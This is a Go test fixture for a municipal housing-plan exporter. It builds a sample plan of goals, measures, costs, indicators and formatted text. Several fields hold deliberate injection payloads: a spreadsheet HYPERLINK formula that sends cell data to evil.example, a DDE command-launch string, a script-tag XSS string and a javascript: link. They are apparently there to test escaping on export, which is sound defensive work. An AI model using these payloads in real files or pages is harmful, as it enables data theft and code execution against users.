package export_test

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/temaplan/temaplan/collab"
	"github.com/temaplan/temaplan/collab/delta"
	"github.com/temaplan/temaplan/export"
)

// text parses the ops of a section's text.
func text(t testing.TB, ops ...map[string]any) delta.Delta {
	t.Helper()
	b, err := json.Marshal(map[string]any{"ops": ops})
	if err != nil {
		t.Fatal(err)
	}
	d, err := delta.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func ins(s string, attrs ...any) map[string]any {
	op := map[string]any{"insert": s}
	if len(attrs) > 0 {
		a := map[string]any{}
		for i := 0; i+1 < len(attrs); i += 2 {
			a[attrs[i].(string)] = attrs[i+1]
		}
		op["attributes"] = a
	}
	return op
}

// The fixture's names, which the tests look for in every format.
const (
	hostileMeasure = `=HYPERLINK("http://evil.example/?x="&A1,"Klikk")`
	measureTitle   = "Startlån til unge i etableringsfasen"
	indicatorName  = "Nye boliger ferdigstilt per år"
	introHeading   = "Bakgrunn for planen"
	tableCell      = "Boliger i 2025"
)

// testDocument is a plan like the demo plan: the housing template's
// outline in part, goals, strategies, measures with costs (one of them
// titled like a spreadsheet formula), indicators with reports, and texts
// with headings, lists, links, a quote, a table and an embedded measure.
func testDocument(t testing.TB) *export.Document {
	t.Helper()
	sec := func(id, title string, kind collab.SectionKind, children ...*collab.Section) *collab.Section {
		return &collab.Section{ID: id, Title: title, Kind: kind, Children: children}
	}
	area := func(n int, title string) *collab.Section {
		p := fmt.Sprintf("a%d", n)
		return sec(p, title, collab.KindTargetArea,
			sec(p+"-an", "Analysedel", collab.KindAnalysis,
				sec(p+"-an-1", "Situasjonsbeskrivelse", collab.KindSection),
				sec(p+"-an-2", "Utviklingstrekk", collab.KindSection)),
			sec(p+"-ha", "Handlingsdel", collab.KindAction,
				sec(p+"-ha-1", "Mål", collab.KindSection),
				sec(p+"-ha-2", "Tiltak", collab.KindSection)))
	}
	p := &collab.Plan{
		ID: "p1", Title: "Temaplan om bolig 2027–2030", Municipality: "demo", Type: collab.TypeTemaplan,
		Phase: collab.PhaseDraft, Period: collab.Period{From: 2027, To: 2030},
		Sections: []*collab.Section{
			sec("intro", "Innledning", collab.KindSection),
			sec("f", "Føringer", collab.KindSection, sec("f-n", "Nasjonale føringer", collab.KindSection)),
			area(1, "Generell boligutvikling"),
			area(2, "Boligsosiale forhold"),
			sec("mk", "Målekort og oppfølging", collab.KindSection),
		},
		Goals: []*collab.Goal{
			{ID: "g1", TargetArea: "a1", Title: "Et variert boligtilbud i alle deler av kommunen", Description: "Flere typer boliger."},
			{ID: "g2", TargetArea: "a2", Title: "Ingen skal være bostedsløse"},
		},
		Strategies: []*collab.Strategy{{ID: "s1", TargetArea: "a1", Title: "Samarbeid med utbyggere", Goals: []string{"g1"}}},
		Measures: []*collab.Measure{
			{ID: "m1", TargetArea: "a1", Title: measureTitle, Unit: "Boligkontoret", TargetGroup: "Unge 20–35 år",
				StartYear: 2027, EndYear: 2030, Priority: collab.PriorityHigh, Status: collab.MeasureInProgress,
				Costs: []collab.CostLine{{Year: 2027, Operating: 450_000}, {Year: 2028, Operating: 450_000},
					{Year: 2029, Operating: 450_000}, {Year: 2030, Operating: 450_000}}},
			{ID: "m2", TargetArea: "a1", Title: "Boligstrategisk tomtereserve", Unit: "Eiendomsavdelingen",
				StartYear: 2028, EndYear: 2029, Priority: collab.PriorityMedium, Status: collab.MeasurePlanned,
				Costs: []collab.CostLine{{Year: 2028, Investment: 15_000_000}, {Year: 2029, Investment: 10_000_000}}},
			{ID: "m3", TargetArea: "a2", Title: "Kommunale utleieboliger for barnefamilier", Unit: "Eiendomsavdelingen",
				StartYear: 2027, EndYear: 2028, Priority: collab.PriorityHigh, Status: collab.MeasurePlanned,
				Costs: []collab.CostLine{{Year: 2027, Investment: 32_000_000}, {Year: 2028, Investment: 18_000_000, Operating: 350_000}}},
			{ID: "m4", TargetArea: "a2", Title: hostileMeasure, Unit: "@SUM(1+1)*cmd|' /C calc'!A0",
				StartYear: 2029, EndYear: 2029, Priority: collab.PriorityLow, Status: collab.MeasurePlanned,
				Costs: []collab.CostLine{{Year: 2029, Operating: 1}}},
		},
		Indicators: []*collab.Indicator{
			{ID: "i1", Goal: "g1", Name: indicatorName, Unit: "antall", Source: "SSB, tabell 05940",
				Baseline: collab.Point{Value: 120, Year: 2024}, Targets: []collab.Point{{Value: 150, Year: 2027}, {Value: 180, Year: 2030}},
				Frequency: collab.FrequencyYearly, Reports: []collab.Report{{ID: "r1", Date: "2025-12-31", Value: 138, Note: "Foreløpige tall"}}},
			{ID: "i2", Goal: "g2", Name: "Bostedsløse", Unit: "antall", Source: "-kartlegging",
				Baseline: collab.Point{Value: 48, Year: 2024}, Targets: []collab.Point{{Value: 35, Year: 2027}, {Value: 20, Year: 2030}},
				Frequency: collab.FrequencyYearly, Reports: []collab.Report{{ID: "r2", Date: "2025-11-30", Value: 47.5}}},
		},
	}
	texts := map[string]delta.Delta{
		"intro": text(t,
			ins(introHeading), ins("\n", "header", 1),
			ins("Kommunen skal sikre "), ins("gode boliger", "bold", true), ins(" for "), ins("alle", "italic", true),
			ins(" innbyggere. Les mer hos "), ins("Husbanken", "link", "https://www.husbanken.no/"), ins(".\n"),
			ins("Første punkt"), ins("\n", "list", "bullet"), ins("Andre punkt"), ins("\n", "list", "bullet"),
			ins("Steg én"), ins("\n", "list", "ordered"), ins("Steg to"), ins("\n", "list", "ordered"),
			ins("Et sitat fra innbyggerundersøkelsen."), ins("\n", "blockquote", true),
			ins(tableCell), ins("\n", "table", "row-1"), ins("312"), ins("\n", "table", "row-1"),
			ins("Boliger i 2026"), ins("\n", "table", "row-2"), ins("298"), ins("\n", "table", "row-2"),
			ins("<script>alert('x')</script> & "), ins("farlig lenke", "link", "javascript:alert(1)"), ins("\n"),
		),
		"a1-ha-2": text(t, ins("Tiltakene i målområdet:\n"), map[string]any{"insert": map[string]any{"measure": "m1"}},
			map[string]any{"insert": map[string]any{"measure": "gone"}}, ins("Slutt.\n")),
		"a1-an-1": text(t, ins("Befolkningen vokser med om lag 1 prosent i året.\n")),
	}
	return &export.Document{Plan: p, Municipality: "Demo kommune", Texts: texts,
		Generated: time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)}
}
